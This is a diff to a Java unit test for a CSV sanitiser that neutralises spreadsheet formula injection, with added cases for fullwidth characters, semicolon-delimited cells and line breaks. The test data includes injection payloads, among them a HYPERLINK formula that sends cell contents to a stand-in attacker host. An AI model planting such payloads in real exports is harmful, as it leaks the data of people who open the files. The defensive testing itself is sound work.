@@ -2,7 +2,9 @@ package io.jobwright.inventory.item;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
 
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 class ItemCsvTest {
@@ -17,10 +19,34 @@ class ItemCsvTest {
         "\t=1",
         "\r=1",
         "\n=1",
+        "＝1+1",
+        "﹢1",
+        "＠x",
         "=HYPERLINK(\"https://evil.example?\"&A1)"
       })
   void whatASpreadsheetWouldCalculateIsText(String text) {
     assertEquals("'" + text, ItemCsv.harmless(text));
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '|',
+      value = {
+        "Bolt;=1+1 | Bolt;'=1+1",
+        "Nut;+cmd;x | Nut;'+cmd;x",
+        "a;;-1;＝2 | a;;'-1;'＝2",
+        "a;\"\"=1 | a;'\"\"=1",
+        "a;\"\"1 | a;\"\"1"
+      })
+  void noCellOfAReaderThatSeparatesBySemicolonsIsCalculated(String text, String written) {
+    assertEquals(written, ItemCsv.harmless(text));
+  }
+
+  @Test
+  void noLineThatAReaderMayBeginInATextIsCalculated() {
+    assertEquals("x\n'=1+1", ItemCsv.harmless("x\n=1+1"));
+    assertEquals("x\r\n'\"=1+1", ItemCsv.harmless("x\r\n\"=1+1"));
+    assertEquals("x\t=1+1", ItemCsv.harmless("x\t=1+1"));
   }
 
   @ParameterizedTest
